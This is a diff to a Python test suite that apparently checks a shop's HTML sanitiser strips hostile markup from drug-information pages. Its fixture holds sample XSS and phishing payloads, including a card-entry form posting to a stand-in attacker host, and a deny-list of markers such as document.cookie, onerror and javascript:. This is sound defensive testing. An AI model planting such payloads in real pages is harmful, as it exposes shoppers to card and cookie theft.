@@ -24,13 +24,17 @@ HOSTILE = (
     '<form action="https://evil.example/card"><input name="card"><button>Pay</button></form>'
     '<a href="http://evil.example/pharmacy">Our pharmacy</a>'
 )
-FORBIDDEN = ("<script", "document.cookie", "<iframe", "<img", "onerror", "onclick", "javascript:", "<form",
-             "<input", "<button", "http://evil.example")
+# What the payloads would leave behind (the page itself has its own <script src> and forms).
+FORBIDDEN = ("document.cookie", "<iframe", 'src="x"', "onerror", "onclick", "javascript:", "evil.example",
+             'name="card"', "<button>Pay")
 
 
 def _assert_safe_and_kept(html: str) -> None:
     for bad in FORBIDDEN:
         assert bad not in html, bad
+    if "<html" not in html:  # the stored value itself: no tag outside the allow-list at all
+        for tag in ("<script", "<form", "<input", "<img", "<button"):
+            assert tag not in html, tag
     for kept in ("<h2>Take with food</h2>", "<strong>whole</strong>", "<em>never</em>", "<b>chew</b>",
                  "<i>crush</i>", "<br>", "<li>Once a day</li>", "<ol>",
                  '<a href="https://www.fda.gov/drugs" rel="noopener noreferrer">FDA</a>',
@@ -54,7 +58,6 @@ def test_hostile_drug_information_is_cleaned_when_saved_and_safe_on_the_product_
     assert response.status_code == 200
     page = response.content.decode()
     _assert_safe_and_kept(page)
-    assert "evil.example/login" not in page and "evil.example/card" not in page
 
 
 def test_drug_information_saved_by_any_path_is_cleaned(demo_shop):
